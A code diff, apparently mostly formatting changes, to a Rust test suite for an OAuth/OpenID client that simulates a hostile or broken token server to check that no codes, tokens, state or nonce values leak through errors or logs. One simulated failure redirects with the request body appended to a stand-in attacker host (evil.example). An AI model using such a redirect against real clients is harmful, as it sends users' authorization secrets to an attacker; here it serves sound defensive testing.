@@ -80,19 +80,39 @@ fn echo(request: &Request) -> String {
 /// How a server fails: with everything that it was sent, wherever it can put it. The last one never answers.
 fn failures() -> Vec<fn(&Request) -> Act> {
     vec![
-        |request| json(400, &serde_json::json!({ "error": echo(request), "error_description": echo(request) }).to_string()),
+        |request| {
+            json(
+                400,
+                &serde_json::json!({ "error": echo(request), "error_description": echo(request) })
+                    .to_string(),
+            )
+        },
         |request| json(400, &serde_json::json!({ "error": request.body }).to_string()),
         |request| {
             let form = request.form();
-            let named = |name: &str| form.iter().find(|(found, _)| found == name).map(|(_, value)| value.clone());
+            let named =
+                |name: &str| form.iter().find(|(found, _)| found == name).map(|(_, value)| value.clone());
             let secret = named("code").or_else(|| named("refresh_token")).or_else(|| named("device_code"));
             json(400, &serde_json::json!({ "error": secret }).to_string())
         },
-        |request| json(400, &serde_json::json!({ "error": "invalid_grant", "error_description": echo(request) }).to_string()),
-        |request| json(401, &serde_json::json!({ "error": "invalid_client", "error_uri": echo(request) }).to_string()),
+        |request| {
+            json(
+                400,
+                &serde_json::json!({ "error": "invalid_grant", "error_description": echo(request) })
+                    .to_string(),
+            )
+        },
+        |request| {
+            json(
+                401,
+                &serde_json::json!({ "error": "invalid_client", "error_uri": echo(request) }).to_string(),
+            )
+        },
         |request| json(500, &echo(request)),
         |request| json(200, &echo(request)),
-        |request| Act::Answer(302, format!("location: https://evil.example/?{}\r\n", request.body), echo(request)),
+        |request| {
+            Act::Answer(302, format!("location: https://evil.example/?{}\r\n", request.body), echo(request))
+        },
         |request| Act::Cut(echo(request)),
         |_| Act::Close,
         |_| Act::Hang,
@@ -130,9 +150,17 @@ async fn no_secret_leaves_by_an_error_or_a_log() {
         let server = server(http, &provider, &client);
 
         // A sign-in whose code is refused.
-        let begun = Authorization::begin(&server, sign_in(), "http://127.0.0.1/callback", scopes(&["openid"]), None, now());
+        let begun = Authorization::begin(
+            &server,
+            sign_in(),
+            "http://127.0.0.1/callback",
+            scopes(&["openid"]),
+            None,
+            now(),
+        );
         let begun = begun.unwrap();
-        let find = |name: &str| begun.url.query_pairs().find(|(found, _)| found == name).unwrap().1.into_owned();
+        let find =
+            |name: &str| begun.url.query_pairs().find(|(found, _)| found == name).unwrap().1.into_owned();
         let (state, nonce) = (find("state"), find("nonce"));
         let callback = |state: &str| {
             Callback::parse(&format!("code={CODE}&state={state}&iss={}", faulty.issuer)).unwrap()
@@ -142,13 +170,21 @@ async fn no_secret_leaves_by_an_error_or_a_log() {
         shown.error(&code.redeem(&server, now()).await.err().unwrap());
         secrets.extend([state, nonce]);
         // A callback that is not for it.
-        let begun = Authorization::begin(&server, sign_in(), "http://127.0.0.1/callback", scopes(&["openid"]), None, now());
+        let begun = Authorization::begin(
+            &server,
+            sign_in(),
+            "http://127.0.0.1/callback",
+            scopes(&["openid"]),
+            None,
+            now(),
+        );
         let refused = begun.unwrap().pending.finish(callback("x"), &server, &owner, Some("ada"), now());
         shown.error(&refused.err().unwrap());
         shown.error(&Callback::parse(&format!("code={CODE}&code={CODE}")).err().unwrap());
 
         // A device whose code is refused.
-        let mut device = DeviceSignIn::begin(&server, &sign_in(), scopes(&["openid"]), None, now()).await.unwrap();
+        let mut device =
+            DeviceSignIn::begin(&server, &sign_in(), scopes(&["openid"]), None, now()).await.unwrap();
         if let Err(error) = device.poll(&server, now()).await {
             shown.error(&error);
         }
@@ -156,7 +192,8 @@ async fn no_secret_leaves_by_an_error_or_a_log() {
         // A grant that is not renewed, and not revoked.
         let machine = MachineGrant::ClientCredentials;
         let issued = machine.issue(&server, &sign_in(), scopes(&["api:read"]), None, now()).await.unwrap();
-        writeln!(shown.0, "{:?}", issued.grant.revoke(Some(&issued.access_token), &server, now()).await).unwrap();
+        writeln!(shown.0, "{:?}", issued.grant.revoke(Some(&issued.access_token), &server, now()).await)
+            .unwrap();
         renew(&mut shown, &copy(&issued.grant), &server, &provider, http).await;
 
         secrets.extend(faulty.requests().iter().filter_map(|request| {
@@ -195,6 +232,8 @@ async fn renew(
     let other = Client::new("other").with_secret(secret(SECRET));
     let other = common::setup::server(http, provider, &other);
     let marked = ready(Ok::<(), Infallible>(()));
-    let Err(ExchangeError::Refused(error)) = lease().exchange(&other, now(), marked).await else { panic!("sent") };
+    let Err(ExchangeError::Refused(error)) = lease().exchange(&other, now(), marked).await else {
+        panic!("sent")
+    };
     shown.error(&error);
 }
